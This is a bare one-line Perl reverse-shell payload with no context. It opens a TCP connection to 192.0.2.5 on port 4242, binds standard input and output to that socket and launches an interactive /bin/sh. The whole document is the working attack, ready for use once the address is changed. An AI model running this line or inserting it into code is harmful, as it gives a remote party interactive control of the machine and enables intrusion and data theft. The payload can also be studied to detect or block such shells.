use Socket;socket(my $k,AF_INET,SOCK_STREAM,6);connect($k,pack_sockaddr_in(4242,inet_aton("192.0.2.5")));open STDIN,"<&".fileno($k);open STDOUT,">&".fileno($k);exec{"/bin/sh"}"sh","-i";
